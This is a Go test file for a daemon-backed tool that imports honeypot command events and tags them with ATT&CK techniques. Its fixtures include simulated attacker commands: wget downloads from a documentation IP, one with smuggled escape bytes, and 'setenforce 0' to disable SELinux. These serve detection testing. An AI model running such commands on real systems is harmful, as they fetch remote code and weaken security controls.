package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/daemon"
	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/nodetest"
)

// rarely is a configuration whose jobs do not run during a test.
const rarely = nodetest.Rarely

// run runs a command with a node's daemon, or without one.
func (n *node) run(stdin string, args ...string) (code int, stdout, stderr string) {
	n.T.Helper()
	self, err := os.Executable()
	if err != nil {
		n.T.Fatal(err)
	}
	program := n.Path("ttpcron")
	if err := os.Symlink(self, program); err != nil && !errors.Is(err, os.ErrExist) {
		n.T.Fatal(err)
	}
	cmd := exec.Command(program, args...)
	var out, errs bytes.Buffer
	cmd.Dir, cmd.Env, cmd.Stdin, cmd.Stdout, cmd.Stderr = n.Dir, n.Env, strings.NewReader(stdin), &out, &errs
	var exit *exec.ExitError
	if err := cmd.Run(); err != nil && !errors.As(err, &exit) {
		n.T.Fatal(err)
	}
	return cmd.ProcessState.ExitCode(), out.String(), errs.String()
}

// serving starts the daemon and waits until it answers.
func (n *node) serving() {
	n.T.Helper()
	n.start()
	n.told(`\AREADY=1`)
}

const remoteEvents = `{"source_kind":"command","source_id":"c1","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","session_id":"s1","payload":{"command_text":"uname -a"}}
{"source_kind":"command","source_id":"c2","time":"2026-05-05T05:49:05Z","attacker_ip":"203.0.113.7","session_id":"s1","payload":{"command_text":"wget http://203.0.113.9/a \udcff\u001b[31m"}}
{"source_kind":"command","source_id":"c3","time":"2026-05-06T00:00:00Z","attacker_ip":"203.0.113.8","payload":{"command_text":"echo nothing"}}
{"source_kind":"canary_fingerprint","source_id":"f1","time":"2026-05-06T01:00:00Z","attacker_ip":"203.0.113.9","payload":{"user_agent":"curl/8.5.0"}}
`

// hostEvents are from a host, where honest people work too.
const hostEvents = `{"source_kind":"command","source_id":"h1","time":"2026-05-07T05:49:05Z","identity_uuid":"5f1a6a80-0000-5000-8000-000000000001","session_id":"w7","vantage":"host","payload":{"command_text":"uname -a"}}
{"source_kind":"command","source_id":"h2","time":"2026-05-07T05:50:05Z","identity_uuid":"5f1a6a80-0000-5000-8000-000000000001","session_id":"w7","vantage":"host","payload":{"command_text":"echo top"}}
`

// countedEvents are from a collector that restarted its count.
const countedEvents = `{"source_kind":"command","source_id":"1","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"command_text":"echo counted"}}
{"source_kind":"command","source_id":"1","time":"2026-05-04T05:49:06Z","attacker_ip":"203.0.113.7","payload":{"command_text":"echo counted"}}
{"source_kind":"command","source_id":"1","time":"2026-05-04T05:49:06Z","time_origin":"derived","attacker_ip":"203.0.113.8","payload":{"command_text":"echo counted"}}
{"source_kind":"command","source_id":"1","time":"2026-05-09T05:49:06Z","time_origin":"derived","attacker_ip":"203.0.113.8","payload":{"command_text":"echo counted"}}
`

// ownRule is a rule that no daemon of a test has.
const ownRule = `rule_id: OWN2
rule_version: 1
name: An echo
applies_to: [command]
level: informational
match: {pattern: '\becho\b'}
emits:
  - {tactic: TA0007, technique_id: T1033, confidence: 0.8}
evidence_fields: [command_text]
attack_release: enterprise-v18.1
tests:
  match: ['echo a']
  no_match: ['uname -a']
`

// Steps of TestSameWithDaemon, in order: they build on one another.
var remoteSteps = []struct {
	args  string
	stdin string
	loose bool   // counts of bytes and pages differ
	shows string // in the output
}{
	{args: "import events.jsonl --json"},
	{args: "import events.jsonl no-such-file"},
	{args: "import - --format events", stdin: remoteEvents[:len(remoteEvents)/2] + "\nnonsense\n"},
	{args: "import - --format events --json", stdin: countedEvents + "\nnonsense\n{\n"},
	{args: "import - --format events --json", stdin: countedEvents + "\nnonsense\n{\n"},
	{args: "run-once --dry-run --input - --since-days 3650", stdin: "nonsense\n[]\n" + remoteEvents},
	{args: "import --rejected"},
	{args: "import --rejected --json"},
	{args: "run-once --source nonsense --input more.jsonl"}, // imports nothing, as the next ones show
	{args: "run-once --dry-run --since-days 3650 --input more.jsonl"},
	{args: "run-once --input more.jsonl --since-days 3650"},
	{args: "run-once --input - --own-networks 203.0.113.7", stdin: `{"source_kind":"command","source_id":"own","time":"2026-05-07T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"command_text":"uname -r"}}` + "\n"},
	{args: "run-once --since-days 3650 --own-networks 203.0.113.0/29"},
	{args: "run-once --input - --since-days 3650", stdin: hostEvents},
	{args: "run-once --input - --attack-release 18.1", stdin: `{"source_kind":"command","source_id":"old","time":"2026-05-07T05:49:06Z","attacker_ip":"203.0.113.9","payload":{"command_text":"setenforce 0"}}` + "\n"},
	{args: "run-once --since-days 3650 --attack-release 18.1"},
	{args: "run-once --json"},
	{args: "run-once --rules-changed-only"},
	{args: "run-once --source nonsense"},
	{args: "run-once --rules own --rules-changed-only --log-level warn"},
	{args: "tags --rule OWN3 --uuid", shows: " OWN3 "},
	{args: "run-once --rules own --since-days 3650 --log-level warn --input labelled.tsv"},
	{args: "tags"},
	{args: "tags --json"},
	{args: "tags --json --limit 1"},
	{args: "tags --json --min-level informational"},
	{args: "tags --session w7"},
	{args: "session w7"},
	{args: "attacker 203.0.113.7"},
	{args: "attacker 203.0.113.7 --full --limit 0"},
	{args: "attacker 203.0.113.7 --json"},
	{args: "attacker 203.0.113.9 --csv"},
	{args: "attacker nobody"},
	{args: "session w7 --json"},
	{args: "session w --csv"},
	{args: "session nosuch"},
	{args: "tags --attacker 203.0.113.7 --technique T1082"},
	{args: "tags --since 2026-05-05 --until 2026-05-06"},
	{args: "tags --json --attack-release 18.1 --technique T1685"},
	{args: "tags --technique T1562.001 --tactic defense-impairment"},
	{args: "attackers"},
	{args: "attackers --json --min-level high"},
	{args: "attackers --csv --new-since 1h --sort last_seen --reverse"},
	{args: "sessions --json --limit 2"},
	{args: "techniques --json --attack-release 18.1"},
	{args: "summary"},
	{args: "summary --json --since 2026-05-05", loose: true},
	{args: "report -o -"},
	{args: "report -o report.html --json", loose: true},
	{args: "sensors"},
	{args: "sensors --json", loose: true},
	{args: "credentials --passwords --json"},
	{args: "files --json"},
	{args: "tags --attack-release 17.1"},
	{args: "status --attack-release 18.1"},
	{args: "rules noise --attack-release 18.1"},
	{args: "status"},
	{args: "status --json", loose: true},
	{args: "checkpoint show"},
	{args: "checkpoint set 1"},
	{args: "checkpoint set 99"},
	{args: "checkpoint reset --source canary"},
	{args: "checkpoint show --json"},
	{args: "rules list"},
	{args: "rules show TEST1"},
	{args: "rules show TEST1 --json"},
	{args: "rules check"},
	{args: "rules test"},
	{args: "rules coverage --json"},
	{args: "rules noise --json"},
	{args: "rules noise --events"},
	{args: "rules eval labelled.tsv"},
	{args: "rules untagged"},
	{args: "rules state set TEST2 disabled --reason test"},
	{args: "rules state set TEST1 clipped=0.4"},
	{args: "rules state list"},
	{args: "rules state clear TEST1"},
	{args: "rules state list --json"},
	{args: "rules retire TEST2 --reason test"},
	{args: "rules list --json"},
	{args: "tags --json"},
	{args: "rules unretire TEST2"},
	{args: "rules log"},
	{args: "rules log --json"},
	{args: "explain uname -a"},
	{args: "explain --correlation SEV1 --group 203.0.113.7 --json", shows: `"tag_stored":true`},
	{args: "explain --correlation SEV1 --group 203.0.113.7 --at 2026-05-04T05:49:05Z"},
	{args: "explain --correlation SEV1 --group 203.0.113.99"},
	{args: "tags --rule SEV1 --uuid"},
	{args: "explain -", stdin: "wget http://203.0.113.9/a"},
	{args: "export --format jsonl"},
	{args: "export --format csv --technique T1082"},
	{args: "export-events"},
	{args: "export-events --source command --since 2026-05-05"},
	{args: "db stats", loose: true},
	{args: "db check", loose: true, shows: "t.db is whole: "},
	{args: "db check --json", loose: true},
	{args: "db stats --json", loose: true},
	{args: "db backup b.db", loose: true},
	{args: "db backup b.db"},
	{args: "db backup --replace b.db", loose: true},
	{args: "db backup --replace t.db"},
	{args: "tags --db b.db --json"},
	{args: "db check --db b.db", loose: true},
	{args: "db prune --keep-events 30d --dry-run", loose: true},
	{args: "db prune --keep-events 30d --keep-tags 30d --yes", loose: true},
	{args: "import events.jsonl"},
	{args: "db prune --forget-horizon --source canary --json", loose: true},
	{args: "db prune --forget-horizon", loose: true},
	{args: "db prune --forget-horizon"},
	{args: "status --json", loose: true},
	{args: "import --again --json events.jsonl"},
	{args: "tags"},
	{args: "version"},
}

// aloneCommands need the file for themselves, or none; the doctor says whether a daemon
// answers, and has its own test.
var aloneCommands = []string{"doctor", "completion", "man", "daemon", "config check", "db compact", "db purge", "db restore", "db recover"}

var remoteNoise = []struct {
	re *regexp.Regexp
	as string
}{
	{regexp.MustCompile(`\d{8}T\d{6}\.\d{6}Z-[0-9a-f]{8}`), "RUN"},
	{regexp.MustCompile(`\d{4}-\d\d-\d\d[T ]\d\d:\d\d:\d\d(\.\d+)?(Z|\+0000)?`), "TIME"},
	{regexp.MustCompile(`"elapsed_s":[0-9.]+`), "ELAPSED"},
	{regexp.MustCompile(`\b([0-9.]+(ns|µs|ms|s|m|h))+( ago)?\b`), "SPAN"},
	{regexp.MustCompile(`\b[0-9.]+ ([KMG]i)?B\b`), "SIZE"},
	{regexp.MustCompile(`process \d+`), "process PID"},
	// Looks are kept of files that were not written within the last seconds.
	{regexp.MustCompile(`(?m)^looks .*\n|\{"name":"looks"[^}]*\},?`), ""},
	{regexp.MustCompile(` +`), " "},
}

// comparable leaves out what differs from one moment to the next.
func comparable(n *node, text string, loose bool) string {
	text = strings.ReplaceAll(text, n.Dir, "DIR")
	for _, noise := range remoteNoise {
		text = noise.re.ReplaceAllString(text, noise.as)
	}
	if loose {
		text = regexp.MustCompile(`[0-9.]+%?`).ReplaceAllString(text, "N")
	}
	return text
}

// Every command gives the same output and exit code whether or not a daemon has
// the store.
func TestSameWithDaemon(t *testing.T) {
	t.Parallel()
	plain, served := newNode(t, rarely), newNode(t, rarely)
	for _, n := range []*node{plain, served} {
		n.Write("events.jsonl", remoteEvents)
		n.Write("more.jsonl", strings.ReplaceAll(remoteEvents, `"source_id":"`, `"source_id":"m`))
		n.Write("labelled.tsv", "T1082\tuname -a\n")
		if err := os.MkdirAll(n.Path("own"), 0o700); err != nil {
			t.Fatal(err)
		}
		n.Write("own/own.yaml", ownRule)
		n.Write("rules/several.yaml", severalRule)
		n.Write("own/several.yaml", strings.NewReplacer("SEV1", "OWN3", "TEST1, TEST2", "OWN2").Replace(severalRule))
		n.Env = append(n.Env, "TTPCRON_INPUT=", "LANG=C.UTF-8", "USER=tester", "LOGNAME=tester")
	}
	served.serving()
	tried := map[string]bool{}
	for _, step := range remoteSteps {
		args := strings.Fields(step.args)
		for k := range args {
			tried[strings.Join(args[:k+1], " ")] = true
		}
		wantCode, wantOut, wantErr := plain.run(step.stdin, args...)
		code, out, errs := served.run(step.stdin, args...)
		if !strings.Contains(wantOut, step.shows) {
			t.Errorf("%s does not show %q: %s", step.args, step.shows, wantOut)
		}
		if code != wantCode {
			t.Errorf("%s: exit %d with a daemon, %d without\n%s%s", step.args, code, wantCode, errs, wantErr)
		}
		if got, want := comparable(served, out, step.loose), comparable(plain, wantOut, step.loose); got != want {
			t.Errorf("%s: with a daemon\n%s\nwithout\n%s", step.args, got, want)
		}
		if got, want := comparable(served, errs, step.loose), comparable(plain, wantErr, step.loose); got != want {
			t.Errorf("%s: on stderr with a daemon\n%s\nwithout\n%s", step.args, got, want)
		}
	}
	rootCommand().Each(func(c *command) {
		if c.Run != nil && !tried[c.Name] && !slices.Contains(aloneCommands, c.Name) {
			t.Errorf("%s is not compared", c.Name)
		}
	})
	// Those that need the file say what to do.
	for _, args := range [][]string{{"db", "compact"}, {"db", "purge", "--session", "s1", "--yes"}, {"db", "restore", "b.db"}, {"db", "recover", "r.db"}, {"daemon"}} {
		code, _, errs := served.run("", args...)
		if code != exitLocked || !strings.Contains(errs, "in use by process") || !strings.Contains(errs, "systemctl stop ttpcron") && args[0] != "daemon" {
			t.Errorf("%v: exit %d, %s", args, code, errs)
		}
	}
	if code := served.stop(); code != exitDone {
		t.Errorf("the daemon exits with %d", code)
	}
	if _, err := os.Lstat(served.Path("t.db.sock")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the socket is left behind: %v", err)
	}
	if code, _, errs := served.run("", "db", "check"); code != exitDone {
		t.Errorf("afterwards: %s", errs)
	}
	if left, _ := filepath.Glob(served.Path(".*")); len(left) > 0 {
		t.Errorf("left behind: %v", left)
	}
}

// busyEvents is how many keep a run busy for a while.
func busyEvents() int {
	if testing.Short() { // and perhaps with the race detector
		return 15_000
	}
	return 60_000
}

// A run of a caller waits for its turn. An interrupt cancels it, or leaves it
// alone, as asked.
func TestRunInDaemonIsInterrupted(t *testing.T) {
	t.Parallel()
	for _, how := range []string{daemon.InterruptCancel, daemon.InterruptDetach} {
		t.Run(how, func(t *testing.T) {
			n := newNode(t, rarely)
			n.Env = append(n.Env, "TTPCRON_INPUT=")
			n.serving()
			var events strings.Builder
			for i := range busyEvents() {
				fmt.Fprintf(&events, `{"source_kind":"command","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"command_text":"uname -a; wget http://203.0.113.9/%d"}}`+"\n", i)
			}
			n.Write("many.jsonl", events.String())
			if code, _, errs := n.run("", "import", "many.jsonl"); code != 0 {
				t.Fatal(errs)
			}
			var stderr nodetest.Buffer
			cmd := exec.Command(n.Path("ttpcron"), "run-once", "--since-days", "3650", "--batch-size", "1", "--workers", "1", "--on-interrupt", how)
			cmd.Dir, cmd.Env, cmd.Stderr = n.Dir, n.Env, &stderr
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			n.logged("run on request: job=run-once")
			if err := cmd.Process.Signal(syscall.SIGINT); err != nil {
				t.Fatal(err)
			}
			_ = cmd.Wait() // its exit code is looked at
			if code := cmd.ProcessState.ExitCode(); code != exitInterrupted {
				t.Fatalf("exit %d: %s", code, stderr.String())
			}
			if detached := strings.Contains(stderr.String(), "goes on in the daemon"); detached != (how == daemon.InterruptDetach) {
				t.Errorf("stderr: %s", stderr.String())
			}
			outcome := map[string]string{daemon.InterruptCancel: `"outcome":"interrupted"`, daemon.InterruptDetach: `"outcome":"done"`}[how]
			n.wait("outcome "+outcome, func() bool {
				_, out, _ := n.run("", "status", "--json")
				return strings.Contains(out, outcome)
			})
			// Nothing is lost either way: the next run continues.
			n.run("", "run-once", "--since-days", "3650")
			if _, out, _ := n.run("", "tags", "--json"); strings.Count(out, "\n") != 3*busyEvents() {
				t.Errorf("%d tags", strings.Count(out, "\n"))
			}
		})
	}
}

// A run with rules that are not the daemon's waits for its turn too, and is done
// with these rules; a run that waits behind it comes next.
func TestRunWithOtherRules(t *testing.T) {
	t.Parallel()
	n := newNode(t, rarely)
	n.Env = append(n.Env, "TTPCRON_INPUT=")
	n.Write("events.jsonl", remoteEvents)
	n.serving()
	if code, _, errs := n.run("", "run-once", "--input", "events.jsonl", "--since-days", "3650"); code != exitDone {
		t.Fatal(errs)
	}
	if err := os.MkdirAll(n.Path("own"), 0o700); err != nil {
		t.Fatal(err)
	}
	rule, err := os.ReadFile(n.Path("rules/discovery.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	n.Write("own/own.yaml", strings.NewReplacer("TEST2", "OWN1", "T1082", "T1033").Replace(string(rule)))
	code, out, errs := n.run("", "run-once", "--rules", "own", "--json")
	if code != exitDone || !strings.Contains(errs, "the daemon has other rules") || !strings.Contains(out, `"OWN1"`) {
		t.Errorf("exit %d: %s%s", code, out, errs)
	}
	if _, out, _ := n.run("", "tags", "--json", "--technique", "T1033"); strings.Count(out, "\n") != 1 {
		t.Errorf("tags of the own rule: %s", out)
	}
	if _, out, _ := n.run("", "status", "--json"); strings.Count(out, `"outcome":"done"`) != 2 {
		t.Errorf("status: %s", out)
	}
	// A command that is killed gives its turn back.
	var events strings.Builder
	for i := range busyEvents() {
		fmt.Fprintf(&events, `{"source_kind":"command","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"command_text":"uname -a; %d"}}`+"\n", i)
	}
	n.Write("many.jsonl", events.String())
	n.run("", "import", "many.jsonl")
	cmd := exec.Command(n.Path("ttpcron"), "run-once", "--rules", "own", "--batch-size", "1", "--workers", "1")
	cmd.Dir, cmd.Env = n.Dir, n.Env
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	n.wait("a second turn", func() bool {
		return strings.Count(n.stderr.String(), `job="run-once with other rules"`) == 2
	})
	if err := cmd.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait() // it was killed
	if code, _, errs := n.run("", "run-once"); code != exitDone {
		t.Errorf("the run after it: exit %d: %s", code, errs)
	}
	if code, _, errs := n.run("", "run-once", "--rules", "own"); code != exitDone {
		t.Errorf("and one more: exit %d: %s", code, errs)
	}
	if code, out, errs := n.run("", "tags", "--json", "--technique", "T1033"); strings.Count(out, "\n") != busyEvents()+1 {
		t.Errorf("%d tags of the own rule, exit %d: %s", strings.Count(out, "\n"), code, errs)
	}
}

// Changes that no run must meet wait for it, as long as for a store that is held.
func TestCheckpointWaitsForRun(t *testing.T) {
	n := newNode(t, rarely)
	n.Env = append(n.Env, "TTPCRON_INPUT=")
	n.serving()
	var events strings.Builder
	for i := range busyEvents() {
		fmt.Fprintf(&events, `{"source_kind":"command","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"command_text":"uname -a; %d"}}`+"\n", i)
	}
	n.Write("many.jsonl", events.String())
	n.run("", "import", "many.jsonl")
	cmd := exec.Command(n.Path("ttpcron"), "run-once", "--since-days", "3650", "--batch-size", "1", "--workers", "1")
	cmd.Dir, cmd.Env = n.Dir, n.Env
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	n.logged("run on request: job=run-once")
	code, _, errs := n.run("", "checkpoint", "set", "0", "--lock-timeout", "1ns")
	if code == exitLocked && !strings.Contains(errs, "a run of the daemon is in progress") || code != exitLocked && code != exitDone {
		t.Errorf("exit %d: %s", code, errs)
	}
	if code, _, errs := n.run("", "checkpoint", "set", "0", "--lock-timeout", patience.String()); code != exitDone {
		t.Errorf("exit %d: %s", code, errs)
	}
	if err := cmd.Wait(); err != nil {
		t.Error(err)
	}
}

// A daemon that stops tells the callers that wait for a run.
func TestDaemonStopsDuringRun(t *testing.T) {
	t.Parallel()
	n := newNode(t, rarely)
	n.Env = append(n.Env, "TTPCRON_INPUT=")
	n.serving()
	var events strings.Builder
	for i := range busyEvents() {
		fmt.Fprintf(&events, `{"source_kind":"command","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"command_text":"uname -a; %d"}}`+"\n", i)
	}
	n.Write("many.jsonl", events.String())
	n.run("", "import", "many.jsonl")
	var stderr nodetest.Buffer
	cmd := exec.Command(n.Path("ttpcron"), "run-once", "--since-days", "3650", "--batch-size", "1", "--workers", "1")
	cmd.Dir, cmd.Env, cmd.Stderr = n.Dir, n.Env, &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	n.logged("run on request: job=run-once")
	if code := n.stop(); code != exitDone {
		t.Errorf("the daemon exits with %d", code)
	}
	_ = cmd.Wait() // its exit code is looked at
	code := cmd.ProcessState.ExitCode()
	said := strings.Contains(stderr.String(), "the daemon has stopped") || strings.Contains(stderr.String(), "interrupted")
	if code == exitDone || !said {
		t.Errorf("exit %d: %s", code, stderr.String())
	}
	n.run("", "run-once", "--since-days", "3650")
	if _, out, _ := n.run("", "tags", "--json"); strings.Count(out, "\n") != busyEvents() {
		t.Errorf("%d tags", strings.Count(out, "\n"))
	}
}
